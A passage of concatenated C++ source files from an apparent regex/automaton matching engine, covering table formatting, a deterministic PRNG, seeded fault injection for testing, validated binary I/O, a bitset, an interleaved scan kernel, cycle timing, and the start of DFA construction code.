  for (const auto& row : rows_)
    for (std::size_t i = 0; i < row.size(); ++i)
      widths[i] = std::max(widths[i], row[i].size());

  std::ostringstream out;
  const auto emit = [&](const std::vector<std::string>& row) {
    for (std::size_t i = 0; i < row.size(); ++i) {
      const bool right = i > 0 && (looks_numeric(row[i]) || row[i] == "-");
      const std::size_t pad = widths[i] - row[i].size();
      if (i > 0) out << "  ";
      if (right) out << std::string(pad, ' ') << row[i];
      else out << row[i] << std::string(pad, ' ');
    }
    out << '\n';
  };
  emit(header_);
  std::size_t total = 0;
  for (const auto w : widths) total += w + 2;
  out << std::string(total > 2 ? total - 2 : total, '-') << '\n';
  for (const auto& row : rows_) emit(row);
  return out.str();
}

std::string TextTable::to_csv() const {
  std::ostringstream out;
  const auto emit = [&](const std::vector<std::string>& row) {
    for (std::size_t i = 0; i < row.size(); ++i) {
      if (i > 0) out << ',';
      out << row[i];
    }
    out << '\n';
  };
  emit(header_);
  for (const auto& row : rows_) emit(row);
  return out.str();
}

std::string format_double(double v, int precision) {
  char buf[64];
  std::snprintf(buf, sizeof buf, "%.*f", precision, v);
  return buf;
}

std::string format_bytes_mb(std::size_t bytes, int precision) {
  return format_double(static_cast<double>(bytes) / (1024.0 * 1024.0), precision);
}

}  // namespace mfa::util
