// Deterministic pseudo-random number generation.
//
// All workload generation in this repo (pattern sets, traces, property
// tests) is seeded explicitly so every experiment is reproducible run to
// run. SplitMix64 seeds a xoshiro256** core; both are public-domain
// reference algorithms reimplemented here to avoid libstdc++ distribution
// differences across platforms.
#pragma once

#include <cstdint>
#include <string>
#include <string_view>

namespace mfa::util {

/// SplitMix64 step; used for seeding and cheap hashing.
constexpr std::uint64_t splitmix64(std::uint64_t& state) {
  state += 0x9e3779b97f4a7c15ULL;
  std::uint64_t z = state;
  z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
  z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
  return z ^ (z >> 31);
}

/// xoshiro256** PRNG with deterministic seeding. Satisfies
/// UniformRandomBitGenerator.
class Rng {
 public:
  using result_type = std::uint64_t;

  explicit Rng(std::uint64_t seed = 0x5eed5eed5eed5eedULL) {
    std::uint64_t sm = seed;
    for (auto& word : s_) word = splitmix64(sm);
  }

  static constexpr result_type min() { return 0; }
  static constexpr result_type max() { return ~0ULL; }

  result_type operator()() {
    const std::uint64_t result = rotl(s_[1] * 5, 7) * 9;
    const std::uint64_t t = s_[1] << 17;
    s_[2] ^= s_[0];
    s_[3] ^= s_[1];
    s_[1] ^= s_[2];
    s_[0] ^= s_[3];
    s_[2] ^= t;
    s_[3] = rotl(s_[3], 45);
    return result;
  }

  /// Uniform integer in [0, bound). bound must be > 0.
  std::uint64_t below(std::uint64_t bound) {
    // Rejection-free Lemire reduction; bias is negligible for our bounds.
    return static_cast<std::uint64_t>(
        (static_cast<unsigned __int128>(operator()()) * bound) >> 64);
  }

  /// Uniform integer in [lo, hi] inclusive.
  std::uint64_t between(std::uint64_t lo, std::uint64_t hi) {
    return lo + below(hi - lo + 1);
  }

  /// Uniform double in [0, 1).
  double uniform01() {
    return static_cast<double>(operator()() >> 11) * 0x1.0p-53;
  }

  /// Bernoulli trial with probability p.
  bool chance(double p) { return uniform01() < p; }

  /// Random byte.
  unsigned char byte() { return static_cast<unsigned char>(below(256)); }

  /// Random printable ASCII character (0x20..0x7e).
  char printable() { return static_cast<char>(between(0x20, 0x7e)); }

  /// Random lowercase letter.
  char lower() { return static_cast<char>(between('a', 'z')); }

  /// Random string of lowercase letters of the given length.
  std::string lower_string(std::size_t len) {
    std::string out(len, '\0');
    for (auto& c : out) c = lower();
    return out;
  }

 private:
  static constexpr std::uint64_t rotl(std::uint64_t x, int k) {
    return (x << k) | (x >> (64 - k));
  }
  std::uint64_t s_[4];
};

/// Stable 64-bit hash of a byte string (FNV-1a); used for dedup keys.
constexpr std::uint64_t fnv1a(std::string_view bytes) {
  std::uint64_t h = 0xcbf29ce484222325ULL;
  for (const char c : bytes) {
    h ^= static_cast<unsigned char>(c);
    h *= 0x100000001b3ULL;
  }
  return h;
}

}  // namespace mfa::util
