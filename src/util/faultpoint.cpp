#include "util/faultpoint.h"

#include <chrono>
#include <mutex>
#include <new>
#include <thread>
#include <unordered_map>

namespace mfa::util {

namespace {

/// splitmix64: the per-evaluation hash that makes firing a pure function of
/// (seed, evaluation index) — replaying a seed replays the schedule.
std::uint64_t mix(std::uint64_t x) {
  x += 0x9e3779b97f4a7c15ULL;
  x = (x ^ (x >> 30)) * 0xbf58476d1ce4e5b9ULL;
  x = (x ^ (x >> 27)) * 0x94d049bb133111ebULL;
  return x ^ (x >> 31);
}

}  // namespace

struct FaultRegistry::Impl {
  struct Site {
    FaultConfig config;
    std::uint64_t evals = 0;
    std::uint64_t fires = 0;
  };
  mutable std::mutex mu;
  std::unordered_map<std::string, Site> sites;
};

FaultRegistry& FaultRegistry::instance() {
  static FaultRegistry registry;
  return registry;
}

FaultRegistry::Impl& FaultRegistry::impl() const {
  static Impl impl;
  return impl;
}

void FaultRegistry::arm(const std::string& name, FaultConfig config) {
  Impl& im = impl();
  std::lock_guard<std::mutex> lock(im.mu);
  im.sites[name] = Impl::Site{config};
  armed_sites_.store(static_cast<int>(im.sites.size()), std::memory_order_relaxed);
}

void FaultRegistry::disarm(const std::string& name) {
  Impl& im = impl();
  std::lock_guard<std::mutex> lock(im.mu);
  im.sites.erase(name);
  armed_sites_.store(static_cast<int>(im.sites.size()), std::memory_order_relaxed);
}

void FaultRegistry::disarm_all() {
  Impl& im = impl();
  std::lock_guard<std::mutex> lock(im.mu);
  im.sites.clear();
  armed_sites_.store(0, std::memory_order_relaxed);
  stalls_aborted_.store(false, std::memory_order_release);
}

bool FaultRegistry::should_fire(const char* name) {
  if (!any_armed()) return false;
  Impl& im = impl();
  std::lock_guard<std::mutex> lock(im.mu);
  const auto it = im.sites.find(name);
  if (it == im.sites.end()) return false;
  Impl::Site& site = it->second;
  const std::uint64_t eval = site.evals++;
  if (eval < site.config.after) return false;
  if (site.fires >= site.config.max_fires) return false;
  if (mix(site.config.seed ^ eval) % 1000000 >= site.config.rate_ppm) return false;
  ++site.fires;
  return true;
}

std::uint64_t FaultRegistry::param(const char* name) const {
  Impl& im = impl();
  std::lock_guard<std::mutex> lock(im.mu);
  const auto it = im.sites.find(name);
  return it != im.sites.end() ? it->second.config.param : 0;
}

std::uint64_t FaultRegistry::fire_count(const std::string& name) const {
  Impl& im = impl();
  std::lock_guard<std::mutex> lock(im.mu);
  const auto it = im.sites.find(name);
  return it != im.sites.end() ? it->second.fires : 0;
}

std::uint64_t FaultRegistry::eval_count(const std::string& name) const {
  Impl& im = impl();
  std::lock_guard<std::mutex> lock(im.mu);
  const auto it = im.sites.find(name);
  return it != im.sites.end() ? it->second.evals : 0;
}

void fault_stall(const char* name) {
#if MFA_FAULTPOINTS_ENABLED
  FaultRegistry& reg = FaultRegistry::instance();
  if (!reg.should_fire(name)) return;
  std::uint64_t ms = reg.param(name);
  if (ms == 0) ms = 50;
  const auto deadline =
      std::chrono::steady_clock::now() + std::chrono::milliseconds(ms);
  while (std::chrono::steady_clock::now() < deadline && !reg.stalls_aborted())
    std::this_thread::sleep_for(std::chrono::milliseconds(1));
#else
  (void)name;
#endif
}

void fault_maybe_bad_alloc(const char* name) {
#if MFA_FAULTPOINTS_ENABLED
  if (FaultRegistry::instance().should_fire(name)) throw std::bad_alloc{};
#else
  (void)name;
#endif
}

}  // namespace mfa::util
