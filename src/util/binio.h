// Minimal binary (de)serialization helpers for the compiled-automaton and
// trace file formats. Little-endian, explicit-width integers, length-
// prefixed containers; readers validate sizes before allocating so a
// corrupt file fails cleanly instead of OOM-ing.
#pragma once

#include <cstdint>
#include <cstdio>
#include <memory>
#include <string>
#include <vector>

namespace mfa::util {

struct FileCloser {
  void operator()(std::FILE* f) const {
    if (f != nullptr) std::fclose(f);
  }
};
using FilePtr = std::unique_ptr<std::FILE, FileCloser>;

namespace detail {
inline constexpr std::uint64_t kFnvOffset = 14695981039346656037ull;
inline constexpr std::uint64_t kFnvPrime = 1099511628211ull;

inline std::uint64_t fnv1a(std::uint64_t h, const void* data, std::size_t size) {
  const auto* p = static_cast<const unsigned char*>(data);
  for (std::size_t i = 0; i < size; ++i) h = (h ^ p[i]) * kFnvPrime;
  return h;
}
}  // namespace detail

class BinWriter {
 public:
  explicit BinWriter(std::FILE* f) : f_(f) {}

  bool ok() const { return ok_; }
  void fail() { ok_ = false; }

  /// FNV-1a over everything written so far. Write it last (via u64) so a
  /// reader can verify the payload; the trailing write itself is excluded
  /// because the caller snapshots digest() before emitting it.
  std::uint64_t digest() const { return digest_; }

  void bytes(const void* data, std::size_t size) {
    if (!ok_) return;
    if (std::fwrite(data, 1, size, f_) != size) {
      ok_ = false;
      return;
    }
    digest_ = detail::fnv1a(digest_, data, size);
  }
  void u8(std::uint8_t v) { bytes(&v, 1); }
  void u16(std::uint16_t v) { bytes(&v, 2); }
  void u32(std::uint32_t v) { bytes(&v, 4); }
  void u64(std::uint64_t v) { bytes(&v, 8); }
  void i32(std::int32_t v) { bytes(&v, 4); }
  void str(const std::string& s) {
    // The length prefix is a u32; refuse anything it cannot represent
    // instead of silently truncating the prefix and writing a torn record.
    if (s.size() > 0xffffffffull) {
      ok_ = false;
      return;
    }
    u32(static_cast<std::uint32_t>(s.size()));
    bytes(s.data(), s.size());
  }
  template <typename T>
  void pod_vec(const std::vector<T>& v) {
    u64(v.size());
    if (!v.empty()) bytes(v.data(), v.size() * sizeof(T));
  }

 private:
  std::FILE* f_;
  bool ok_ = true;
  std::uint64_t digest_ = detail::kFnvOffset;
};

class BinReader {
 public:
  /// `max_bytes` caps any single container allocation (default 1 GiB).
  explicit BinReader(std::FILE* f, std::size_t max_bytes = 1ull << 30)
      : f_(f), max_bytes_(max_bytes) {}

  bool ok() const { return ok_; }
  void fail() { ok_ = false; }

  /// FNV-1a over everything read so far; snapshot before reading a trailing
  /// checksum and compare against it.
  std::uint64_t digest() const { return digest_; }

  void bytes(void* data, std::size_t size) {
    if (!ok_) return;
    if (std::fread(data, 1, size, f_) != size) {
      ok_ = false;
      return;
    }
    digest_ = detail::fnv1a(digest_, data, size);
  }
  std::uint8_t u8() { return scalar<std::uint8_t>(); }
  std::uint16_t u16() { return scalar<std::uint16_t>(); }
  std::uint32_t u32() { return scalar<std::uint32_t>(); }
  std::uint64_t u64() { return scalar<std::uint64_t>(); }
  std::int32_t i32() { return scalar<std::int32_t>(); }

  std::string str() {
    const std::uint32_t len = u32();
    if (!ok_ || len > max_bytes_) {
      ok_ = false;
      return {};
    }
    std::string s(len, '\0');
    bytes(s.data(), len);
    return ok_ ? s : std::string{};
  }

  template <typename T>
  std::vector<T> pod_vec() {
    const std::uint64_t count = u64();
    // Divide instead of multiplying: `count * sizeof(T)` wraps for huge
    // counts (2^62 * 8 == 0), letting a 16-byte crafted header drive the
    // vector constructor into std::length_error / OOM.
    if (!ok_ || count > max_bytes_ / sizeof(T)) {
      ok_ = false;
      return {};
    }
    std::vector<T> v(count);
    if (count > 0) bytes(v.data(), count * sizeof(T));
    if (!ok_) v.clear();
    return v;
  }

 private:
  template <typename T>
  T scalar() {
    T v{};
    bytes(&v, sizeof v);
    return ok_ ? v : T{};
  }
  std::FILE* f_;
  std::size_t max_bytes_;
  bool ok_ = true;
  std::uint64_t digest_ = detail::kFnvOffset;
};

}  // namespace mfa::util
