// A compact dynamically-sized bitset used for NFA state sets.
//
// std::vector<bool> cannot be OR-ed wordwise and std::bitset is fixed-size;
// NFA simulation (paper Sec. V, NFA baseline) needs fast whole-set union,
// iteration over set bits, and hashing for subset construction, so we keep
// our own minimal implementation over uint64 words.
#pragma once

#include <cstddef>
#include <cstdint>
#include <functional>
#include <vector>

namespace mfa::util {

class DynamicBitset {
 public:
  DynamicBitset() = default;
  explicit DynamicBitset(std::size_t bit_count)
      : bits_(bit_count), words_((bit_count + 63) / 64, 0) {}

  [[nodiscard]] std::size_t size() const { return bits_; }
  [[nodiscard]] std::size_t word_count() const { return words_.size(); }

  void set(std::size_t i) { words_[i >> 6] |= 1ULL << (i & 63); }
  void reset(std::size_t i) { words_[i >> 6] &= ~(1ULL << (i & 63)); }
  [[nodiscard]] bool test(std::size_t i) const {
    return (words_[i >> 6] >> (i & 63)) & 1ULL;
  }

  void clear() { std::fill(words_.begin(), words_.end(), 0); }

  [[nodiscard]] bool any() const {
    for (const auto w : words_)
      if (w != 0) return true;
    return false;
  }

  [[nodiscard]] std::size_t count() const {
    std::size_t n = 0;
    for (const auto w : words_) n += static_cast<std::size_t>(__builtin_popcountll(w));
    return n;
  }

  DynamicBitset& operator|=(const DynamicBitset& other) {
    for (std::size_t i = 0; i < words_.size(); ++i) words_[i] |= other.words_[i];
    return *this;
  }

  DynamicBitset& operator&=(const DynamicBitset& other) {
    for (std::size_t i = 0; i < words_.size(); ++i) words_[i] &= other.words_[i];
    return *this;
  }

  [[nodiscard]] bool intersects(const DynamicBitset& other) const {
    for (std::size_t i = 0; i < words_.size(); ++i)
      if (words_[i] & other.words_[i]) return true;
    return false;
  }

  bool operator==(const DynamicBitset& other) const { return words_ == other.words_; }

  /// Invoke fn(index) for every set bit, ascending.
  template <typename Fn>
  void for_each_set(Fn&& fn) const {
    for (std::size_t wi = 0; wi < words_.size(); ++wi) {
      std::uint64_t w = words_[wi];
      while (w != 0) {
        const int bit = __builtin_ctzll(w);
        fn(wi * 64 + static_cast<std::size_t>(bit));
        w &= w - 1;
      }
    }
  }

  /// Collect set-bit indices into a sorted vector.
  [[nodiscard]] std::vector<std::uint32_t> to_indices() const {
    std::vector<std::uint32_t> out;
    out.reserve(count());
    for_each_set([&](std::size_t i) { out.push_back(static_cast<std::uint32_t>(i)); });
    return out;
  }

  [[nodiscard]] std::uint64_t hash() const {
    std::uint64_t h = 0xcbf29ce484222325ULL;
    for (const auto w : words_) {
      h ^= w;
      h *= 0x100000001b3ULL;
    }
    return h;
  }

  [[nodiscard]] const std::vector<std::uint64_t>& words() const { return words_; }

 private:
  std::size_t bits_ = 0;
  std::vector<std::uint64_t> words_;
};

}  // namespace mfa::util
