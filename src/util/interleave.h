// K-way interleaved scan kernel for table-driven automata.
//
// A single flow's scan is a dependent chain: the address of byte i+1's
// transition load is the state produced by byte i's load, so the memory
// system can never overlap two of them and per-byte cost is bounded by
// load-to-use latency, not bandwidth (Hyperflex makes the same observation
// for DFA scanning). Distinct flows have *independent* chains, so advancing
// K flow contexts in lockstep through one loop issues K independent
// transition loads per iteration and lets DRAM/L2 latency overlap —
// memory-level parallelism the per-packet pipeline leaves on the floor.
//
// This header is engine-agnostic: Dfa, CompactDfa and Mfa each instantiate
// interleaved_scan() with their own transition/accept callables (see
// feed_many in src/dfa/dfa.h, src/dfa/compact.h, src/mfa/mfa.h). Lane state
// lives in small stack arrays; exhausted lanes are retired (context written
// back) and refilled from the remaining jobs, so any number of jobs runs
// with at most `lanes` streams in flight.
#pragma once

#include <algorithm>
#include <cstddef>
#include <cstdint>

namespace mfa::scan {

/// One stream of an interleaved scan: a per-flow context plus the in-order
/// chunk of bytes to advance it over. `base` is the stream offset of
/// data[0], exactly as in Engine::feed.
template <typename Context>
struct FeedJob {
  Context* ctx = nullptr;
  const std::uint8_t* data = nullptr;
  std::size_t size = 0;
  std::uint64_t base = 0;
};

/// Hard cap on lanes in flight: beyond ~16 the loop's live state no longer
/// fits registers/L1 and outstanding-miss slots are exhausted anyway.
inline constexpr std::size_t kMaxLanes = 16;

/// Default interleave width: 8 independent loads per iteration saturates
/// the load-miss parallelism of current cores without spilling lane state.
inline constexpr std::size_t kDefaultLanes = 8;

/// Read-prefetch `p` into all cache levels; no-op on compilers without the
/// intrinsic. Issued as soon as a lane's next row address is known so the
/// line is (partially) in flight while the other lanes take their turn.
inline void prefetch_ro(const void* p) {
#if defined(__GNUC__) || defined(__clang__)
  __builtin_prefetch(p, /*rw=*/0, /*locality=*/3);
#else
  (void)p;
#endif
}

/// Advance `count` independent jobs, up to `lanes` in lockstep.
///
///  - step(state, byte) -> next state           (the transition function)
///  - prefetch_state(state)                     (warm the next row)
///  - accept(job_index, state, end_offset)      (called when state < naccept)
///
/// Per-job byte order is exactly Engine::feed's; only *cross-job* work
/// interleaves, so the per-flow match semantics are unchanged. Jobs must
/// reference distinct contexts. Contexts are written back when their job
/// retires (and are final when this returns).
template <typename Context, typename StepFn, typename PrefetchFn, typename AcceptFn>
void interleaved_scan(FeedJob<Context>* jobs, std::size_t count, std::size_t lanes,
                      std::uint32_t naccept, StepFn&& step, PrefetchFn&& prefetch_state,
                      AcceptFn&& accept) {
  lanes = std::clamp<std::size_t>(lanes, 1, kMaxLanes);

  std::uint32_t state[kMaxLanes];
  const std::uint8_t* data[kMaxLanes];
  std::size_t pos[kMaxLanes];
  std::size_t size[kMaxLanes];
  std::uint64_t base[kMaxLanes];
  std::size_t job_ix[kMaxLanes];

  std::size_t next = 0;
  std::size_t active = 0;
  const auto fill = [&] {
    while (active < lanes && next < count) {
      const FeedJob<Context>& j = jobs[next];
      if (j.size == 0) {
        ++next;
        continue;
      }
      state[active] = j.ctx->state;
      data[active] = j.data;
      pos[active] = 0;
      size[active] = j.size;
      base[active] = j.base;
      job_ix[active] = next;
      ++active;
      ++next;
    }
  };
  fill();

  while (active > 0) {
    // Every active lane has at least `chunk` bytes left, so the hot loop
    // below runs with no per-byte bounds checks or lane retirement.
    std::size_t chunk = size[0] - pos[0];
    for (std::size_t j = 1; j < active; ++j) chunk = std::min(chunk, size[j] - pos[j]);

    for (std::size_t i = 0; i < chunk; ++i) {
      // One independent transition load per lane per iteration: lane j's
      // load does not depend on lane k's, so the misses overlap. The
      // prefetch starts lane j's *next* row fetch while lanes j+1..K run.
      for (std::size_t j = 0; j < active; ++j) {
        const std::uint32_t s = step(state[j], data[j][pos[j] + i]);
        prefetch_state(s);
        state[j] = s;
        if (s < naccept) [[unlikely]] accept(job_ix[j], s, base[j] + pos[j] + i);
      }
    }
    for (std::size_t j = 0; j < active; ++j) pos[j] += chunk;

    // Retire exhausted lanes (write the context back), compact, refill.
    std::size_t w = 0;
    for (std::size_t j = 0; j < active; ++j) {
      if (pos[j] == size[j]) {
        jobs[job_ix[j]].ctx->state = state[j];
        continue;
      }
      if (w != j) {
        state[w] = state[j];
        data[w] = data[j];
        pos[w] = pos[j];
        size[w] = size[j];
        base[w] = base[j];
        job_ix[w] = job_ix[j];
      }
      ++w;
    }
    active = w;
    fill();
  }
}

}  // namespace mfa::scan
