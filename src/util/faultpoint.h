// Deterministic, named, seed-driven fault injection (DESIGN.md Sec. 9).
//
// A fault point is a named site in production code — MFA_FAULT_POINT
// ("pipeline.worker.crash") — that tests arm with a seed and a firing rate
// to drive recovery paths that ordinary traffic never exercises: allocation
// failure, queue saturation, worker stalls and crashes, corrupt packets.
// Firing is a pure function of (site seed, per-site evaluation index), so a
// given seed replays the same fault schedule along each site's evaluation
// sequence. In Release builds (NDEBUG) every query compiles to a constant
// `false` and the registry is never consulted: zero hot-path cost.
//
// Override the build-type default by defining MFA_FAULTPOINTS_ENABLED=0/1.
#pragma once

#include <atomic>
#include <cstdint>
#include <string>

#ifndef MFA_FAULTPOINTS_ENABLED
#ifdef NDEBUG
#define MFA_FAULTPOINTS_ENABLED 0
#else
#define MFA_FAULTPOINTS_ENABLED 1
#endif
#endif

namespace mfa::util {

/// How an armed fault point fires along its evaluation sequence.
struct FaultConfig {
  std::uint64_t seed = 1;        ///< stream selector; same seed → same schedule
  std::uint32_t rate_ppm = 0;    ///< firing probability in parts per million
  std::uint64_t after = 0;       ///< never fire on the first `after` evaluations
  std::uint64_t max_fires = ~std::uint64_t{0};  ///< stop firing after this many
  std::uint64_t param = 0;       ///< site-specific knob (e.g. stall duration ms)
};

/// Process-wide table of armed fault points. Thread-safe; the fast path in
/// production code never reaches it unless MFA_FAULTPOINTS_ENABLED.
class FaultRegistry {
 public:
  static FaultRegistry& instance();

  /// Arm (or re-arm, resetting counters) the named site.
  void arm(const std::string& name, FaultConfig config);
  void disarm(const std::string& name);
  /// Disarm every site and clear the stall-abort latch.
  void disarm_all();

  /// One evaluation of the named site: returns true when the fault fires.
  bool should_fire(const char* name);

  /// Lock-free fast path: false when no site is armed at all, so unarmed
  /// fault points cost one relaxed atomic load (debug builds) or nothing
  /// (Release, where fault_fire is constant false).
  [[nodiscard]] bool any_armed() const {
    return armed_sites_.load(std::memory_order_relaxed) != 0;
  }

  /// Site-specific parameter of an armed site (0 when not armed).
  [[nodiscard]] std::uint64_t param(const char* name) const;

  [[nodiscard]] std::uint64_t fire_count(const std::string& name) const;
  [[nodiscard]] std::uint64_t eval_count(const std::string& name) const;

  /// Release every in-progress injected stall (bounded-deadline shutdown
  /// uses this so finish(timeout) never waits out a long stall schedule).
  void abort_stalls() { stalls_aborted_.store(true, std::memory_order_release); }
  [[nodiscard]] bool stalls_aborted() const {
    return stalls_aborted_.load(std::memory_order_acquire);
  }

 private:
  FaultRegistry() = default;
  struct Impl;
  Impl& impl() const;
  std::atomic<bool> stalls_aborted_{false};
  std::atomic<int> armed_sites_{0};  ///< mirror of the site-table size
};

/// True when this build evaluates fault points at all.
constexpr bool faultpoints_enabled() { return MFA_FAULTPOINTS_ENABLED != 0; }

/// Evaluate a fault point. Constant false (no registry access, no branch
/// left after optimization) when fault points are compiled out.
inline bool fault_fire(const char* name) {
#if MFA_FAULTPOINTS_ENABLED
  return FaultRegistry::instance().should_fire(name);
#else
  (void)name;
  return false;
#endif
}

/// Stall the calling thread when the site fires: sleeps in 1 ms slices for
/// the site's `param` milliseconds (default 50), returning early if
/// FaultRegistry::abort_stalls() is called. Models a wedged worker that the
/// watchdog must detect, while staying recoverable for bounded shutdown.
void fault_stall(const char* name);

/// Throw std::bad_alloc when the site fires — models allocation failure at
/// the call site without poisoning the global allocator.
void fault_maybe_bad_alloc(const char* name);

}  // namespace mfa::util
