// Cycle- and wall-clock timing utilities.
//
// The paper (Sec. V-B) measures matching throughput in CPU cycles per byte
// (CpB) using the rdtsc instruction, and construction cost in cpu-seconds.
// CycleTimer mirrors the rdtsc methodology; WallTimer gives construction
// seconds. On non-x86 builds CycleTimer falls back to a steady clock scaled
// by an estimated cycle rate so CpB numbers remain comparable in shape.
#pragma once

#include <chrono>
#include <cstdint>

namespace mfa::util {

/// Read the CPU timestamp counter (or a monotonic-nanosecond fallback).
std::uint64_t rdtsc_now();

/// Estimated TSC ticks per second, sampled once per process (used to convert
/// cycle counts to seconds where needed; cached after first call).
double tsc_ticks_per_second();

/// Measures elapsed CPU cycles between construction/reset and elapsed().
class CycleTimer {
 public:
  CycleTimer() : start_(rdtsc_now()) {}
  void reset() { start_ = rdtsc_now(); }
  [[nodiscard]] std::uint64_t elapsed_cycles() const { return rdtsc_now() - start_; }

 private:
  std::uint64_t start_;
};

/// Measures elapsed wall seconds (double) between construction and seconds().
class WallTimer {
 public:
  WallTimer() : start_(clock::now()) {}
  void reset() { start_ = clock::now(); }
  [[nodiscard]] double seconds() const {
    return std::chrono::duration<double>(clock::now() - start_).count();
  }

 private:
  using clock = std::chrono::steady_clock;
  clock::time_point start_;
};

}  // namespace mfa::util
