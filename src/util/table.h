// Plain-text table rendering for the benchmark harness.
//
// Every bench binary prints the same rows/series the paper reports
// (Table V, Figs. 2-5); TextTable keeps that output aligned and greppable,
// and can also emit CSV for downstream plotting.
#pragma once

#include <string>
#include <vector>

namespace mfa::util {

class TextTable {
 public:
  explicit TextTable(std::vector<std::string> header);

  /// Append one row; it is padded/truncated to the header width.
  void add_row(std::vector<std::string> row);

  /// Render with aligned columns (left-aligned first column, right-aligned
  /// numeric-looking columns).
  [[nodiscard]] std::string to_string() const;

  /// Render as CSV (no quoting needed for our cell contents).
  [[nodiscard]] std::string to_csv() const;

 private:
  std::vector<std::string> header_;
  std::vector<std::vector<std::string>> rows_;
};

/// Format helpers shared by bench binaries.
std::string format_double(double v, int precision = 2);
std::string format_bytes_mb(std::size_t bytes, int precision = 2);

}  // namespace mfa::util
