#include "util/timing.h"

#include <thread>

#if defined(__x86_64__) || defined(__i386__)
#include <x86intrin.h>
#endif

namespace mfa::util {

std::uint64_t rdtsc_now() {
#if defined(__x86_64__) || defined(__i386__)
  return __rdtsc();
#else
  return static_cast<std::uint64_t>(
      std::chrono::duration_cast<std::chrono::nanoseconds>(
          std::chrono::steady_clock::now().time_since_epoch())
          .count());
#endif
}

double tsc_ticks_per_second() {
  static const double rate = [] {
    const auto wall_start = std::chrono::steady_clock::now();
    const std::uint64_t tsc_start = rdtsc_now();
    std::this_thread::sleep_for(std::chrono::milliseconds(50));
    const std::uint64_t tsc_end = rdtsc_now();
    const auto wall_end = std::chrono::steady_clock::now();
    const double secs = std::chrono::duration<double>(wall_end - wall_start).count();
    return static_cast<double>(tsc_end - tsc_start) / secs;
  }();
  return rate;
}

}  // namespace mfa::util
