#include "dfa/dfa.h"

#include <algorithm>
#include <array>
#include <atomic>
#include <memory>
#include <mutex>
#include <thread>
#include <unordered_map>

#include "util/timing.h"

namespace mfa::dfa {

std::pair<std::array<std::uint8_t, 256>, std::uint16_t> compute_byte_classes(
    const nfa::Nfa& nfa) {
  // Partition refinement: start with one class holding all bytes and split
  // by every distinct transition label. Exact (no hashing).
  std::array<std::uint16_t, 256> cls{};
  std::uint16_t class_count = 1;
  // Temporary ids during one split round can reach 2 * class_count <= 512.
  std::array<std::uint16_t, 512> split_map{};  // old class -> in-label class
  std::array<std::uint16_t, 512> renumber{};
  for (const auto& label : nfa.distinct_labels()) {
    std::fill(split_map.begin(), split_map.end(), std::uint16_t{0xffff});
    std::uint16_t next_id = class_count;
    for (unsigned b = 0; b < 256; ++b) {
      if (!label.test(static_cast<unsigned char>(b))) continue;
      const std::uint16_t old = cls[b];
      if (split_map[old] == 0xffff) split_map[old] = next_id++;
      cls[b] = split_map[old];
    }
    // Renumber densely in first-byte order. When an entire class was inside
    // the label the old id simply disappears, which keeps the partition
    // correct and the count minimal.
    std::fill(renumber.begin(), renumber.end(), std::uint16_t{0xffff});
    std::uint16_t dense = 0;
    for (unsigned b = 0; b < 256; ++b) {
      if (renumber[cls[b]] == 0xffff) renumber[cls[b]] = dense++;
      cls[b] = renumber[cls[b]];
    }
    class_count = dense;
  }
  std::array<std::uint8_t, 256> out{};
  for (unsigned b = 0; b < 256; ++b) out[b] = static_cast<std::uint8_t>(cls[b]);
  return {out, class_count};
}

namespace {

struct VecHash {
  std::size_t operator()(const std::vector<std::uint32_t>& v) const {
    std::uint64_t h = 0xcbf29ce484222325ULL;
    for (const std::uint32_t x : v) {
      h ^= x;
      h *= 0x100000001b3ULL;
    }
    return static_cast<std::size_t>(h);
  }
};

/// Per-NFA-state transition rows pre-resolved to byte classes:
/// CSR of (class, target) pairs sorted by class.
struct ClassifiedNfa {
  std::vector<std::uint32_t> row_offsets;  // per state
  std::vector<std::pair<std::uint16_t, std::uint32_t>> entries;
};

ClassifiedNfa classify(const nfa::Nfa& nfa, const std::array<std::uint8_t, 256>& cls,
                       std::uint16_t ncls) {
  // Representative byte per class.
  std::vector<unsigned char> rep(ncls);
  for (int b = 255; b >= 0; --b) rep[cls[static_cast<unsigned>(b)]] = static_cast<unsigned char>(b);

  ClassifiedNfa out;
  out.row_offsets.assign(nfa.state_count() + 1, 0);
  for (std::uint32_t s = 0; s < nfa.state_count(); ++s) {
    out.row_offsets[s] = static_cast<std::uint32_t>(out.entries.size());
    for (const auto& t : nfa.transitions_from(s)) {
      for (std::uint16_t c = 0; c < ncls; ++c) {
        if (t.cc.test(rep[c])) out.entries.emplace_back(c, t.target);
      }
    }
    std::sort(out.entries.begin() + out.row_offsets[s], out.entries.end());
  }
  out.row_offsets[nfa.state_count()] = static_cast<std::uint32_t>(out.entries.size());
  return out;
}

/// Moore partition refinement; returns the new state id of every old state
/// and the new state count.
std::pair<std::vector<std::uint32_t>, std::uint32_t> minimize_partition(
    const std::vector<std::uint32_t>& table, std::uint16_t ncols,
    const std::vector<std::vector<std::uint32_t>>& accept_sets) {
  const std::size_t n = accept_sets.size();
  std::vector<std::uint32_t> block(n);
  // Initial partition: by accept id set.
  {
    std::unordered_map<std::vector<std::uint32_t>, std::uint32_t, VecHash> sig_to_block;
    for (std::size_t s = 0; s < n; ++s) {
      const auto [it, inserted] = sig_to_block.try_emplace(
          accept_sets[s], static_cast<std::uint32_t>(sig_to_block.size()));
      block[s] = it->second;
    }
  }
  std::uint32_t block_count = 0;
  for (const auto b : block) block_count = std::max(block_count, b + 1);

  std::vector<std::uint32_t> key(ncols + 1);
  while (true) {
    std::unordered_map<std::vector<std::uint32_t>, std::uint32_t, VecHash> sig_to_block;
    std::vector<std::uint32_t> next_block(n);
    for (std::size_t s = 0; s < n; ++s) {
      key[0] = block[s];
      for (std::uint16_t c = 0; c < ncols; ++c) key[c + 1] = block[table[s * ncols + c]];
      const auto [it, inserted] =
          sig_to_block.try_emplace(key, static_cast<std::uint32_t>(sig_to_block.size()));
      next_block[s] = it->second;
    }
    const auto new_count = static_cast<std::uint32_t>(sig_to_block.size());
    block.swap(next_block);
    if (new_count == block_count) break;
    block_count = new_count;
  }
  return {std::move(block), block_count};
}

/// Output of the (sequential or parallel) reachable-subset exploration, in
/// canonical numbering: state 0 is the start subset, successors numbered in
/// discovery order walking byte classes 0..ncls-1 — exactly the order the
/// sequential explorer interns them in.
struct Explored {
  std::vector<std::vector<std::uint32_t>> subsets;
  std::vector<std::uint32_t> table;  // state_count * ncls
  bool failed = false;
  std::uint32_t discovered = 0;  ///< states found (== cap when failed)
};

/// Sequential explorer. The cap is enforced exactly at insertion: interning
/// a subset that would make the count exceed max_states aborts right there
/// instead of one processed state later.
